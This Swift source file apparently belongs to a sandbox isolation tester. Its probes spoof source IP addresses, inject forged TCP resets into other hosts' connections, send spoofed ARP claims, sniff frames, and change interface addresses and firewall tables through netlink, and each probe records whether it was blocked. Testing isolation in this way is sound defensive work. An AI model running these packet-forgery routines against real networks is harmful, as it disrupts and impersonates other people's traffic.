internal import Addresses
internal import Breach
internal import CLinux
internal import Glibc

/// Packets that lie about their sender, and other people's traffic; ids as in `Technique.forgery`.
enum Forgery {
    private static let nobody = "no other compartment"
    private static let everyProtocol: UInt16 = 0x0003
    private static let protocolARP: UInt16 = 0x0806
    private static let bareProtocol: Int32 = 255

    static let attempts: [(String, Attack)] = [
        ("net.raw-spoof", rawSpoof),
        (
            "net.freebind-spoof",
            { seat throws(Refusal) in try bound(&seat, Constant.ipFreebind) }
        ),
        (
            "net.transparent-spoof",
            { seat throws(Refusal) in try bound(&seat, Constant.ipTransparent) }
        ),
        ("net.bare-ack", bareAcknowledgement), ("net.forged-reset", forgedReset),
        ("net.sniff", sniff), ("net.arp-spoof", claim), ("net.netlink-address", addAddress),
        ("net.netlink-firewall", changeFirewall),
    ]

    /// The last neighbour lends its address; the packet goes to another.
    private static func lender(_ seat: Seat) -> Address? { seat.orders.neighbours.last }

    private static func goals(_ seat: Seat, but lender: Address) -> [Target] {
        (seat.targets(.declared) + seat.targets(.undeclared)).filter {
            $0.transport == 6 && $0.address != lender
        }
    }

    private static func rawSpoof(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let descriptor = try makeSocket(AF_INET, Constant.rawType, bareProtocol)
        defer { close(descriptor) }
        guard let lender = lender(seat), let goal = goals(seat, but: lender).first else {
            return .inapplicable(nobody)
        }
        let notices = try? Network.noticeSocket(seat)
        defer { if let notices { close(notices) } }
        let body = seat.mark
        let datagram =
            Layout.network(UInt16(47474)) + Layout.network(goal.port)
            + Layout.network(UInt16(8 + body.count)) + [0, 0] + body
        seat.touch(Target(goal.kind, goal.address, transport: 17, port: goal.port))
        try send(
            descriptor, header(lender, goal.address, 17, datagram.count) + datagram, goal.address)
        return try Network.noticed(notices)
            ?? .sent("a datagram from \(lender) to \(goal.address):\(goal.port)")
    }

    /// An IPv4 header; the kernel fills in checksum and length.
    private static func header(
        _ source: Address, _ target: Address, _ transport: UInt8, _ count: Int
    ) -> [UInt8] {
        [0x45, 0] + Layout.network(UInt16(20 + count)) + [0, 0, 0, 0, 64, transport, 0, 0]
            + Layout.network(source.value) + Layout.network(target.value)
    }

    private static func send(
        _ descriptor: Int, _ packet: [UInt8], _ target: Address
    ) throws(Refusal) {
        try call(
            SYS_sendto, Argument(descriptor), Argument(Memory(packet)), Argument(packet.count), 0,
            Argument(Memory(Layout.address(target, port: 0))), 16, about: "raw packet")
    }

    private static func bound(_ seat: inout Seat, _ option: Int32) throws(Refusal) -> Outcome {
        guard let lender = lender(seat) else { return .inapplicable(nobody) }
        let goals = goals(seat, but: lender)
        return try dialAll(goals, &seat, none: nobody) { target throws(Refusal) in
            let descriptor = try makeSocket(AF_INET, Constant.streamType)
            do throws(Refusal) {
                try setOption(descriptor, levelIP, option)
                try bind(descriptor, lender, 0)
                try connect(descriptor, target.address, target.port)
            } catch {
                close(descriptor)
                throw error
            }
            return descriptor
        }
    }

    private static let levelIP: Int32 = 0
    private static let acknowledge: UInt8 = 0x10
    private static let reset: UInt8 = 0x04

    /// A TCP segment without data.
    private static func segment(
        from source: (Address, UInt16), to target: (Address, UInt16), sequence: UInt32,
        acknowledged: UInt32, flags: UInt8
    ) -> [UInt8] {
        var bytes =
            Layout.network(source.1) + Layout.network(target.1) + Layout.network(sequence)
            + Layout.network(acknowledged) + [0x50, flags, 0x20, 0, 0, 0, 0, 0]
        let pseudo =
            Layout.network(source.0.value) + Layout.network(target.0.value)
            + [0, 6] + Layout.network(UInt16(bytes.count))
        bytes.replaceSubrange(16..<18, with: Layout.network(Layout.checksum(pseudo + bytes)))
        return bytes
    }

    /// A received IPv4 packet with TCP inside, headers read.
    private struct Segment {
        let source: Address
        let target: Address
        let sourcePort: UInt16
        let targetPort: UInt16
        let sequence: UInt32
        let flags: UInt8
        let payload: Int

        init?(_ packet: [UInt8]) {
            guard packet.count >= 40, packet[0] >> 4 == 4, packet[9] == 6 else { return nil }
            let at = Int(packet[0] & 15) * 4
            guard packet.count >= at + 20 else { return nil }
            let word = { (index: Int) -> UInt32 in
                packet[index..<index + 4].reduce(0) { $0 << 8 | UInt32($1) }
            }
            source = Address(word(12))
            target = Address(word(16))
            sourcePort = UInt16(word(at) >> 16)
            targetPort = UInt16(word(at) & 0xFFFF)
            sequence = word(at + 4)
            flags = packet[at + 13]
            let whole = Int(packet[2]) << 8 | Int(packet[3])
            payload = max(0, whole - at - Int(packet[at + 12] >> 4) * 4)
        }
    }

    private static func bareAcknowledgement(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let descriptor = try makeSocket(AF_INET, Constant.rawType, Constant.protocolTCP)
        defer { close(descriptor) }
        let goals = goals(seat, but: Address(0)).prefix(8)
        guard !goals.isEmpty else { return .inapplicable(nobody) }
        for goal in goals {
            seat.touch(goal)
            try send(
                descriptor,
                segment(
                    from: (seat.orders.address, 47473), to: (goal.address, goal.port),
                    sequence: 1, acknowledged: 1, flags: acknowledge), goal.address)
        }
        for _ in 0..<64 {
            let packet = try receive(descriptor, milliseconds: 100)
            if packet.isEmpty { break }
            guard let answer = Segment(packet), answer.targetPort == 47473,
                answer.flags & reset != 0
            else { continue }
            return .through("\(answer.source):\(answer.sourcePort) answered a bare ACK")
        }
        return .sent("bare ACKs to \(goals.count) ports, no answer")
    }

    /// Listens for a segment of others, then ends their connection in its sender's name.
    private static func forgedReset(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let ears = try makeSocket(AF_INET, Constant.rawType, Constant.protocolTCP)
        defer { close(ears) }
        let mouth = try makeSocket(AF_INET, Constant.rawType, bareProtocol)
        defer { close(mouth) }
        guard let goal = goals(seat, but: Address(0)).first else { return .inapplicable(nobody) }
        let notices = try? Network.noticeSocket(seat)
        defer { if let notices { close(notices) } }
        for _ in 0..<40 {
            let packet = try receive(ears, milliseconds: 20)
            guard let heard = Segment(packet), heard.payload > 0,
                heard.source != seat.orders.address, heard.target != seat.orders.address
            else { continue }
            let forged = segment(
                from: (heard.source, heard.sourcePort), to: (heard.target, heard.targetPort),
                sequence: heard.sequence &+ UInt32(heard.payload), acknowledged: 0, flags: reset)
            try send(
                mouth, header(heard.source, heard.target, 6, forged.count) + forged, heard.target)
            if let told = try Network.noticed(notices) { return told }
        }
        seat.touch(goal)
        let blind = segment(
            from: (lender(seat) ?? seat.orders.address, 47473), to: (goal.address, goal.port),
            sequence: 1, acknowledged: 0, flags: reset)
        try send(
            mouth,
            header(lender(seat) ?? seat.orders.address, goal.address, 6, blind.count) + blind,
            goal.address)
        return .sent("a blind reset to \(goal.address):\(goal.port)")
    }

    static func packetSocket(_ number: UInt16, _ type: Int32) throws(Refusal) -> Int {
        try makeSocket(Constant.familyPacket, type, Int32(number.bigEndian))
    }

    private static func sniff(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let descriptor = try packetSocket(everyProtocol, Constant.rawType)
        defer { close(descriptor) }
        let frame = try receive(descriptor, milliseconds: 400)
        guard !frame.isEmpty else { throw unsuccessful("no frame came by") }
        return .through("a frame of \(frame.count) bytes overheard")
    }

    private static func claim(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let descriptor = try packetSocket(protocolARP, Constant.datagramType)
        defer { close(descriptor) }
        guard let lender = lender(seat) else { return .inapplicable(nobody) }
        let reply: [UInt8] =
            [0, 1, 8, 0, 6, 4, 0, 2, 2, 0x42, 0x48, 0, 0, 1] + Layout.network(lender.value)
            + [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF] + Layout.network(lender.value)
        for index in seat.open ? [UInt32(2), 1] : [UInt32(2)] {
            let link =
                Layout.word(UInt16(Constant.familyPacket)) + Layout.network(protocolARP)
                + Layout.word(index) + [0, 0, 0, 6, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0]
            do throws(Refusal) {
                try call(
                    SYS_sendto, Argument(descriptor), Argument(Memory(reply)),
                    Argument(reply.count), 0, Argument(Memory(link)), 20, about: "an ARP reply")
            } catch  where error.errno == ENXIO { continue }
            // On the open twin's loopback what goes out comes in: somebody hears the claim.
            guard seat.open else { break }
            let heard = try receive(descriptor, milliseconds: 60)
            if !heard.isEmpty { return .through("the claim of \(lender) was heard") }
        }
        return .sent("a claim of \(lender) on the link")
    }

    static func message(
        _ kind: UInt16, _ flags: UInt16, _ sequence: UInt32, _ body: [UInt8]
    ) -> [UInt8] {
        var bytes =
            Layout.word(UInt32(16 + body.count)) + Layout.word(kind) + Layout.word(flags)
            + Layout.word(sequence) + Layout.word(UInt32(0)) + body
        while bytes.count % 4 != 0 { bytes.append(0) }
        return bytes
    }

    static func attribute(_ kind: UInt16, _ value: [UInt8]) -> [UInt8] {
        var bytes = Layout.word(UInt16(4 + value.count)) + Layout.word(kind) + value
        while bytes.count % 4 != 0 { bytes.append(0) }
        return bytes
    }

    /// Sends and reads the acknowledgement; its error is thrown as the call's.
    static func transact(
        _ descriptor: Int, _ bytes: [UInt8], about detail: String
    ) throws(Refusal) {
        try call(
            SYS_sendto, Argument(descriptor), Argument(Memory(bytes)), Argument(bytes.count), 0, 0,
            0, about: detail)
        let answer = Memory(try receive(descriptor, milliseconds: 200))
        guard answer.integer(UInt16.self, at: 4) == 2 else {
            throw unsuccessful("\(detail): no acknowledgement")
        }
        let code = answer.integer(Int32.self, at: 16)
        if code != 0 { throw unsuccessful(detail, call: SYS_sendto, errno: -code) }
    }

    private static func addAddress(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let descriptor = try makeSocket(Constant.familyNetlink, Constant.rawType, 0)
        defer { close(descriptor) }
        guard let neighbour = seat.orders.neighbours.first else { return .inapplicable(nobody) }
        // The open twin holds its neighbours' addresses already: another one stands for them.
        let wanted = seat.open ? Address(neighbour.value &+ 100) : neighbour
        return try anyOf([UInt32(2), 1], none: nobody) { index throws(Refusal) in
            let address = Layout.network(wanted.value)
            let body =
                [UInt8(AF_INET), 32, 0, 0] + Layout.word(index)
                + attribute(2, address) + attribute(1, address)
            try transact(descriptor, message(20, 0x605, 1, body), about: "add address \(wanted)")
            let proof = try makeSocket(AF_INET, Constant.datagramType)
            defer { close(proof) }
            try bind(proof, wanted, 0)
            try transact(descriptor, message(21, 0x005, 2, body), about: "remove \(wanted)")
            return .through("the interface had \(wanted)")
        }
    }

    private static func changeFirewall(_ seat: inout Seat) throws(Refusal) -> Outcome {
        let descriptor = try makeSocket(Constant.familyNetlink, Constant.rawType, 12)
        defer { close(descriptor) }
        let batch: [UInt8] = [0, 0, 0, 10]
        let table: [UInt8] = [1, 0, 0, 0] + attribute(1, Array("bhprobe".utf8) + [0])
        let whole = { (kind: UInt16, flags: UInt16) -> [UInt8] in
            message(16, 1, 1, batch) + message(kind, flags, 2, table) + message(17, 1, 3, batch)
        }
        try transact(descriptor, whole(0x0A00, 0x405), about: "make a table")
        try transact(descriptor, whole(0x0A02, 0x005), about: "remove the table")
        return .through("table bhprobe was made and removed")
    }
}
